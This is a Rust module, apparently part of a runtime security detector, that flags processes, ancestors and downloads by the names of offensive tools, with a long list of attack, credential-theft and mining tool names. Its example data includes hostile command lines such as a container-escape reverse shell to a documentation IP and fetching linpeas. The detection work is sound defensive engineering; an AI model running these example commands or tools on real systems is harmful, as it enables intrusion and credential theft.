//! Programs that are made for attacks, by their names; and their traces.

use super::kinds::Kinds;
use super::seen::Seen;
use super::words::{self, holds_any, parts};
use super::{Finds, Hit, Indicator};
use crate::analysis::paths::base_name;
use foldhash::HashSet;
use std::sync::LazyLock;

pub(super) const ROWS: &[Indicator] = &[
    Indicator {
        id: "attack-tool",
        finds: Finds::Command(&[], |seen| is_attack_tool(seen) && !seen.has_arg(&["--version", "--help"])),
        weight: 80,
        techniques: &["T1588.002", "T1059"],
        reason: "The program is a public attack tool, by its name.",
        refuted_by: "A security exercise that is announced, or another program of the same name.",
        example: &[("proc.cmdline", "cdk run shim-pwn reverse 198.51.100.23 9001")],
        look_alike: &[("proc.cmdline", "cdk deploy MyStack")],
    },
    Indicator {
        id: "attack-tool-in-tree",
        finds: Finds::Facts(|facts| {
            let own = [
                ("proc.exepath", facts.process.program.exepath),
                ("proc.name", facts.process.program.name),
                ("proc.pexepath", facts.parent.exepath),
                ("proc.pname", facts.parent.name),
            ];
            let above = facts
                .ancestors
                .iter()
                .flat_map(|program| [("proc.aname", program.name), ("proc.aexepath", program.exepath)]);
            own.into_iter().chain(above).find_map(|(field, value)| {
                let value = value?;
                let name = words::undeleted(base_name(value));
                (NAMES.contains(name) || download_named(name)).then(|| Hit::of(field, value)).flatten()
            })
        }),
        weight: 78,
        techniques: &["T1588.002"],
        reason: "The process, or one that started it, has the name of an attack tool, an exploit or malware.",
        refuted_by: "A security exercise that is announced, or another program of the same name.",
        example: &[("proc.name", "kubectl"), ("proc.pname", "kube-recon")],
        look_alike: &[("proc.name", "kubectl"), ("proc.pname", "kube-proxy")],
    },
    Indicator {
        id: "network-traffic-forged",
        finds: Finds::Command(
            &[
                "arpspoof",
                "bettercap",
                "dsniff",
                "ettercap",
                "mitm6",
                "responder",
                "scapy",
                "yersinia",
                "macof",
                "dnschef",
            ],
            |seen| !seen.has_arg(&["--version", "--help"]),
        ),
        weight: 80,
        techniques: &["T1557"],
        reason: "The tool forges network traffic to get between others.",
        refuted_by: "A security exercise that is announced.",
        example: &[("proc.cmdline", "arpspoof -i eth0 -t 10.0.0.5 10.0.0.1")],
        look_alike: &[("proc.cmdline", "arp -n")],
    },
    Indicator {
        id: "network-listened-to",
        finds: Finds::Command(&["tcpdump", "tshark", "dumpcap", "ngrep"], |seen| {
            seen.facts.in_container() && !seen.has_arg(&["--version", "-D", "--help"])
        }),
        weight: 30,
        techniques: &["T1040"],
        reason: "Network traffic is recorded in a container.",
        refuted_by: "Somebody of your team who debugged the network at this time.",
        example: &[("container.id", "c1"), ("proc.cmdline", "tcpdump -i any -w /tmp/x.pcap")],
        look_alike: &[("container.id", "c1"), ("proc.cmdline", "tcpdump --version")],
    },
    Indicator {
        id: "attack-tool-downloaded",
        finds: Finds::Kind(Kinds::DOWNLOADS, &["git"], |seen| {
            let named = |url: super::words::Url<'_>| {
                let file = url.file().trim_end_matches(".gz").trim_end_matches(".tar").trim_end_matches(".zip");
                NAMES.contains(file)
                    || holds_any(
                        url.path,
                        parts![
                            "linpeas",
                            "PEASS",
                            "linenum",
                            "/pspy",
                            "/chisel",
                            "ligolo",
                            "/peirates",
                            "/deepce",
                            "amicontained",
                            "/fscan",
                            "/traitor",
                            "mimipenguin",
                            "/lazagne",
                            "/gsocket",
                            "/metasploit",
                            "linux-exploit-suggester",
                            "/CDK/",
                            "/kubeletctl",
                            "/sliver",
                            "/PwnKit",
                            "/xmrig",
                        ],
                    )
            };
            (seen.is_download() || seen.name == "git") && seen.urls().any(named)
        }),
        weight: 76,
        techniques: &["T1588.002", "T1105"],
        reason: "A public attack or mining tool is fetched, by its name.",
        refuted_by: "A security exercise that is announced.",
        example: &[(
            "proc.cmdline",
            "curl -fsSL https://raw.githubusercontent.com/x/PEASS-ng/master/linPEAS/linpeas.sh",
        )],
        look_alike: &[("proc.cmdline", "curl -fsSL https://raw.githubusercontent.com/x/tools/master/backup.sh")],
    },
];

static NAMES: LazyLock<HashSet<&str>> = LazyLock::new(|| TOOLS.iter().copied().collect());

/// Names that belong to attack tools and to nothing else that runs on servers.
const TOOLS: &[&str] = &[
    "LinEnum.sh",
    "amicontained",
    "botb",
    "chisel",
    "cobaltstrike",
    "commix",
    "crackmapexec",
    "cs-agent",
    "ddexec",
    "deepce",
    "deepce.sh",
    "dirtycow",
    "dirtypipe",
    "dnscat",
    "dnscat2",
    "empire",
    "evil-winrm",
    "fscan",
    "ffuf",
    "gobuster",
    "gs-netcat",
    "gsocket",
    "hashcat",
    "hydra",
    "impacket",
    "iodine",
    "john",
    "kube-hunter",
    "kube-recon",
    "kubeletctl",
    "kubeletmein",
    "lazagne",
    "laZagne",
    "les.sh",
    "ligolo",
    "ligolo-ng",
    "linenum.sh",
    "linpeas",
    "linpeas.sh",
    "linux-exploit-suggester.sh",
    "linuxprivchecker.py",
    "lse.sh",
    "masscan",
    "medusa",
    "merlin",
    "meterpreter",
    "mettle",
    "mimipenguin",
    "mimipenguin.sh",
    "msfconsole",
    "msfvenom",
    "ncrack",
    "netexec",
    "nikto",
    "nuclei",
    "nxc",
    "patator",
    "peirates",
    "pnscan",
    "poseidon",
    "pspy",
    "pspy32",
    "pspy64",
    "pupy",
    "pwnkit",
    "pwncat",
    "pwncat-cs",
    "reptile",
    "rustscan",
    "sliver",
    "sliver-client",
    "smuggler",
    "sqlmap",
    "stowaway",
    "suid3num.py",
    "traitor",
    "traitor-amd64",
    "tsh",
    "unix-privesc-check",
    "weevely",
    "wfuzz",
    "wpscan",
    "xmrig",
    "zgrab",
    "zgrab2",
    "zmap",
    "kerbrute",
    "responder",
    "sshuttle-evil",
    "vshell",
    "zuoRAT",
    "bpfdoor",
    "kubesploit",
    "mythic",
    "villain",
    "revsocks",
    "neo-regeorg",
    "suo5",
];

fn download_named(name: &str) -> bool {
    super::download::is_self_named(name)
}

fn is_attack_tool(seen: &Seen<'_, '_>) -> bool {
    let name = seen.program;
    if name == "cdk" {
        return is_container_kit(seen);
    }
    if NAMES.contains(name) {
        return true;
    }
    let interprets = seen.is_shell() || matches!(seen.name, "python" | "perl" | "ruby");
    interprets
        && seen
            .operands()
            .take(2)
            .any(|arg| NAMES.contains(base_name(arg)) || (arg.contains('/') && download_named(base_name(arg))))
}

/// The container escape kit `cdk`, as opposed to the cloud development kit of the same name.
fn is_container_kit(seen: &Seen<'_, '_>) -> bool {
    let mut args = seen.args();
    match args.next() {
        Some("run") => args.next().is_some_and(|exploit| {
            holds_any(
                exploit,
                parts![
                    "shim-pwn",
                    "mount-",
                    "escape",
                    "reverse",
                    "docker-",
                    "cap-dac",
                    "k8s-",
                    "check-ptrace",
                    "probe",
                    "istio",
                    "backdoor",
                    "lxcfs",
                    "runc-pwn",
                    "test-poc",
                    "service-probe",
                    "kcurl",
                    "--list",
                    "rewrite-cgroup",
                    "webshell",
                    "container",
                ],
            )
        }),
        Some(
            "evaluate" | "eva" | "auto-escape" | "kcurl" | "ucurl" | "dcurl" | "nc" | "probe" | "ectl" | "vi"
            | "ifconfig" | "ps",
        ) => true,
        _ => false,
    }
}
